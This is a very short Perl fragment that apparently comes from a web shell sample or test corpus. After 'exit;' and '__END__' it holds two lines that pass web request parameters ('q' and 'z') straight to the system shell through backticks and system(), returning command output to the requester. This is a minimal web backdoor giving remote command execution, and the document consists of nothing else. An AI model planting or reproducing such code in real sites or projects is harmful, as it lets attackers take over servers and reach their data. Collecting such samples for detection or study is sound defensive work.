exit;
__END__
print `@{[ param('q') ]}`;
system(CGI->new->param('z') . ' 2>&1');
